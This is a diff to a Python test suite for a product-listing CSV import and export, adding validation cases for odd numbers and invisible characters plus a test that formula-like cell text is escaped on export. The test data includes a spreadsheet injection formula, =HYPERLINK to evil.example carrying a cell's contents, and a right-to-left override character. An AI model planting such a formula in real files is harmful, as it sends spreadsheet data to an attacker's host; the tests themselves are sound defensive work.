@@ -142,6 +142,10 @@ async def test_one_bad_row_rejects_the_whole_file_and_the_report_names_each_bad_
         ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,ZZ,0", "ships_to", "ZZ"),
         ("X-1,Kasza,,,,pl,HS,1904,KGM,1,5,1,PL,0", "price_tiers", "min_quantity:unit_price"),
         ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,PL,soon", "lead_time_days", "must be a whole number"),
+        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,PL,1e-400", "lead_time_days", "must be a whole number"),  # not 0
+        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1E+999999999,PL,0", "stock_on_hand", "must be less than"),
+        ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,0.0001,PL,0", "stock_on_hand", "at most 3 decimal places"),
+        ("X-1,Kasza\u202e,,,,pl,HS,1904,KGM,1,1:5,1,PL,0", "title[pl]", "invisible characters"),
         ("X-1,,opis,,,pl,HS,1904,KGM,1,1:5,1,PL,0", "title[pl]", "cannot be empty"),
         ("X-1,Kasza,,,,pl,HS,1904,KGM,1,1:5,1,PL", "$", "cells"),
     ],
@@ -223,6 +227,35 @@ async def test_an_export_imports_unchanged_into_another_producer_and_is_a_no_op_
     assert copied.status_code == 200, copied.text
     assert copied.json()["created"] == 4
     assert (await download(client, other_owner, other, file_format)).content == exported.content
+
+
+async def test_a_formula_in_a_cell_is_exported_as_text_and_imported_back_as_it_was(
+    client: Client, producer: tuple[Account, dict[str, Any]]
+) -> None:
+    """A title like =HYPERLINK(...) is a listing's text, never a formula in whoever opens the export."""
+    owner, organization = producer
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Zioła")'
+    texts = {"title[pl]": formula, "description[pl]": "-10% na start", "title[de]": "@Kräutertee", "title[en]": "+tea"}
+    buffer = io.StringIO()
+    writer = csv.DictWriter(buffer, [*HEADER.split(",")], lineterminator="\n")
+    writer.writeheader()
+    writer.writerow(dict(zip(HEADER.split(","), GOOD_ROWS[2].split(","), strict=True)) | texts)
+    created = await upload(client, owner, organization, buffer.getvalue().encode())
+    assert created.status_code == 200, created.text
+
+    exported = await download(client, owner, organization, "csv")
+    assert exported.headers["content-type"] == "text/csv; charset=utf-8"
+    [row] = list(csv.DictReader(io.StringIO(exported.text)))
+    assert row["title[pl]"] == "'" + formula
+    assert (row["description[pl]"], row["title[de]"], row["title[en]"]) == ("'-10% na start", "'@Kräutertee", "'+tea")
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+
+    # Back from the spreadsheet: the apostrophe comes off, and nothing changed.
+    again = await upload(client, owner, organization, exported.content, mode="upsert")
+    assert again.status_code == 200, again.text
+    assert (again.json()["unchanged"], again.json()["updated"]) == (1, 0)
+    listings = (await client.get(f"/api/v1/organizations/{organization['id']}/listings", headers=owner.headers)).json()
+    assert [item["title"] for item in listings["items"]] == [formula]
 
 
 async def test_upsert_changes_only_what_changed_with_a_new_version(
